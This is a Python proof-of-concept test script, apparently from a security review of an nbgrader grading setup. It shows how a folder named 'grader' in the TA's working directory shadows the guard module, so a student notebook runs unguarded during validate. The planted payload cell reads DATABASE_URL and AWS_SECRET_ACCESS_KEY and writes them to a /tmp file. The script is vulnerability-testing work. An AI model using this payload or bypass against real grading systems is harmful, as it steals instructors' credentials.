"""a07: the venv's nbgrader_config.py (round 40) installs the guards only if `from grader import formgrader_guard`
works, and passes silently on ImportError. The checkout is found through setuptools' editable finder, which Python
asks only AFTER the normal path search: any folder named `grader` on sys.path (a namespace package, no __init__.py
needed) wins. `python -m nbgrader` puts the current folder first on sys.path. The TA, in a folder that happens to have
a sub-folder `grader/` (her own notes, a course tool), runs `python -m nbgrader validate <course>/submitted/mallory41u/...`.
mallory's notebook writes the canaries it can read into /tmp/attack41-user-a07-stolen."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"
PAY = "import os\nopen('/tmp/attack41-user-a07-stolen','w').write(f\"validate ran mallory as uid {os.getuid()}: {os.environ.get('DATABASE_URL')} {os.environ.get('AWS_SECRET_ACCESS_KEY')}\")"
d = make_course("a07")
m = honest(A); m.cells.insert(2, nbformat.v4.new_code_cell(PAY))
hand_in(d, "mallory41u", A, m); hand_in(d, "aaron41u", A, honest(A)); hand_in(d, "zoe41u", A, honest(A))
grade(d, A); scores(d)
nbp = f"{d}/submitted/mallory41u/{A}/{A}.ipynb"
ta = "/tmp/attack41-user-a07-ta"
for with_folder in (False, True):
    shutil.rmtree(ta, ignore_errors=True); os.makedirs(ta)
    if with_folder: os.makedirs(ta + "/grader")  # an empty folder of the TA's named grader
    chown(ta)
    if os.path.exists("/tmp/attack41-user-a07-stolen"): os.unlink("/tmp/attack41-user-a07-stolen")
    r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", PY, "-m", "nbgrader", "validate", nbp],
                       cwd=ta, env=dict(ENV, HOME=ta), capture_output=True, text=True, timeout=600)
    out = (r.stdout + r.stderr).strip().splitlines()
    stolen = open("/tmp/attack41-user-a07-stolen").read() if os.path.exists("/tmp/attack41-user-a07-stolen") else None
    keep = [l[:200] for l in out if "rror" in l or "not validating" in l or "Success" in l or "denied" in l][:6]
    print(f"== cwd {ta} {'WITH' if with_folder else 'without'} a grader/ folder: rc {r.returncode}; lines: {keep}\n   stolen: {stolen}")
shutil.rmtree(ta, ignore_errors=True); shutil.rmtree(d)
if os.path.exists("/tmp/attack41-user-a07-stolen"): os.unlink("/tmp/attack41-user-a07-stolen")
